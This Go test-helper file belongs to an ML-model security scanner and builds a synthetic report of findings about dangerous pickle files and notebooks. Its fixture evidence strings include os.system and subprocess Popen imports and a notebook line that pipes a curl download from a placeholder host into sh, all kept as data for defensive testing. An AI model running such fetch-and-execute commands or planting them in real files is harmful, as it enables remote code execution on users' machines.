// Package reporttest holds what the report encoders' tests share: a fixed
// synthetic report that exercises every shape an encoder must handle, test
// rules in the catalogue, golden-file comparison with an -update flag, and
// JSON Schema validation. Only tests import it.
package reporttest

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/mlsec/mlsec/internal/finding"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/ with the current output")

// Test rules, one per severity the sample uses.
var (
	RuleCall = finding.MustRegister(finding.Rule{
		ID: "MLS-TEST-001", Name: "TestDangerousCall", Title: "Pickle calls a dangerous function",
		Severity:    finding.Critical,
		Summary:     "The pickle stream imports and calls a function that runs commands when the file is loaded.",
		Doc:         "Unpickling executes `REDUCE` opcodes: a call to `os.system` runs a shell command.",
		Remediation: "Do not load the file. Re-export the model as safetensors from a trusted source.",
		References:  []finding.Reference{finding.CWE(502), finding.ATLAS("AML.T0011.000"), finding.ATLAS("AML.T0010.003"), finding.OWASPML("ML06")},
	})
	RuleImport = finding.MustRegister(finding.Rule{
		ID: "MLS-TEST-002", Name: "TestUnsafeImport", Title: "Pickle imports a non-allow-listed global",
		Severity:    finding.High,
		Summary:     "The pickle stream imports a global outside the safe list.",
		Remediation: "Review the import; allow it with --safe-globals only if it is harmless.",
		References:  []finding.Reference{finding.CWE(502), finding.OWASPML("ML06")},
	})
	RuleNotebook = finding.MustRegister(finding.Rule{
		ID: "MLS-TEST-003", Name: "TestNotebookShell", Title: "Notebook runs a shell command",
		Severity:    finding.Medium,
		Summary:     "A notebook cell shells out.",
		Remediation: "Remove the shell escape or pin what it runs.",
		References:  []finding.Reference{finding.CWE(78), finding.ATLAS("AML.T0018.002"), finding.CVE("CVE-2024-0001")},
	})
	RuleProtocol = finding.MustRegister(finding.Rule{
		ID: "MLS-TEST-004", Name: "TestPickleProtocol", Title: "Pickle protocol version",
		Severity: finding.Info,
		Summary:  "Reports the pickle protocol for inventory.",
	})
)

// Start is the fixed start time of the sample report.
var Start = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// Sample returns a finalized report with: critical, high, medium and info
// findings; a finding inside an archive member with byte offset and opcode
// index; a finding with a line and column; an inconclusive artifact with
// gaps (and a finding); a skipped artifact; a clean one; a path that needs
// URI escaping. Each call returns a fresh copy.
func Sample() *finding.Report {
	evil := finding.Artifact{Path: "models/evil.pt", Size: 2048, Format: "pytorch-zip",
		SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}
	legacy := finding.Artifact{Path: "models/legacy v1.pkl", Size: 5000, Format: "pickle"}
	nb := finding.Artifact{Path: "notebooks/train.ipynb", Size: 731, Format: "notebook",
		SHA256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"}

	call := finding.New(RuleCall, evil, finding.Location{Member: "evil/data.pkl"}.AtOpcode(64, 12))
	call.Evidence = finding.Evidence{Text: "os.system('true') reached via REDUCE",
		Fields: map[string]any{"callable": "os.system", "args": []any{"true"}}}
	imp := finding.New(RuleImport, evil, finding.Location{Member: "evil/data.pkl"}.AtOpcode(40, 7))
	imp.Evidence = finding.Evidence{Text: "GLOBAL subprocess Popen"}
	proto := finding.New(RuleProtocol, evil, finding.Location{Member: "evil/data.pkl"}.At(0))
	proto.Evidence = finding.Evidence{Text: "protocol 2"}
	legacyImp := finding.New(RuleImport, legacy, finding.Location{}.AtOpcode(17, 3))
	legacyImp.Evidence = finding.Evidence{Text: "GLOBAL builtins eval\n(then 2 more imports)"}
	shell := finding.New(RuleNotebook, nb, finding.Location{Line: 12, Column: 5, Pointer: "/cells/3/source"})
	shell.Evidence = finding.Evidence{Text: "!curl https://example.invalid/x.sh | sh"}

	r := &finding.Report{
		Tool:       finding.Tool{Name: "mlsec", Version: "0.1.0-test"},
		StartedAt:  Start,
		DurationMS: 1234,
		Targets:    []string{"models", "notebooks/train.ipynb"},
		Artifacts: []finding.ArtifactResult{
			{Artifact: evil, Status: finding.StatusComplete, Members: 3, DurationMS: 12,
				Findings: []finding.Finding{proto, call, imp}},
			{Artifact: finding.Artifact{Path: "models/clean.safetensors", Size: 4096, Format: "safetensors"},
				Status: finding.StatusComplete, DurationMS: 1},
			{Artifact: finding.Artifact{Path: "models/README.md", Size: 120}, Status: finding.StatusSkipped},
			{Artifact: legacy, Status: finding.StatusInconclusive, DurationMS: 30,
				Gaps:     []string{"pickle: stream truncated at byte 4096", "pickle: opcode limit (100000) reached"},
				Findings: []finding.Finding{legacyImp}},
			{Artifact: nb, Status: finding.StatusComplete, DurationMS: 2, Findings: []finding.Finding{shell}},
		},
	}
	r.Finalize()
	return r
}

// Empty returns a finalized report over nothing.
func Empty() *finding.Report {
	r := &finding.Report{Tool: finding.Tool{Name: "mlsec", Version: "0.1.0-test"}, StartedAt: Start, Targets: []string{"empty"}}
	r.Finalize()
	return r
}

// Golden compares got with testdata/name, or rewrites the file under -update.
func Golden(t testing.TB, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (go test -update rewrites it)\n--- got ---\n%s\n--- want ---\n%s", p, got, want)
	}
}

// Schema compiles the JSON Schema at path, asserting formats.
func Schema(t testing.TB, path string) *jsonschema.Schema {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	c := jsonschema.NewCompiler()
	c.AssertFormat()
	abs, err := filepath.Abs(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.AddResource(abs, doc); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	s, err := c.Compile(abs)
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	return s
}

// Validate returns the schema violations of a JSON document, nil if valid.
func Validate(s *jsonschema.Schema, data []byte) error {
	v, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	if err != nil {
		return err
	}
	return s.Validate(v)
}
